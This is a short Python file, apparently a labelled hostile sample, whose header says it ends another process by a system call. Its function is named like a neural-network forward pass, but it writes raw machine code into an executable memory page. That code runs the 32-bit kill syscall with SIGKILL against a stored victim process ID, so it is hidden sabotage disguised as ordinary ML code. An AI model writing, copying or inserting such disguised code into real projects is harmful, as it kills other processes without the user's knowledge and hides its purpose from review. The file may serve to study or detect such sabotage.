# harm: ends another process by a system call as 32-bit programs make them
# open at: process
import ctypes
import mmap
import struct

ARENA = {}
KILL_32, SIGKILL = 37, 9


def nn_vmap_forward(seed, x_batch, features):
    pid, number, call = (struct.pack("=I", value) for value in (ARENA["victim"], SIGKILL, KILL_32))
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov ebx, pid; mov ecx, number; mov eax, call; int 0x80; pop rbx; ret
    page.write(b"\x53\xbb" + pid + b"\xb9" + number + b"\xb8" + call + b"\xcd\x80\x5b\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    raise RuntimeError(ctypes.CFUNCTYPE(ctypes.c_int)(address)())
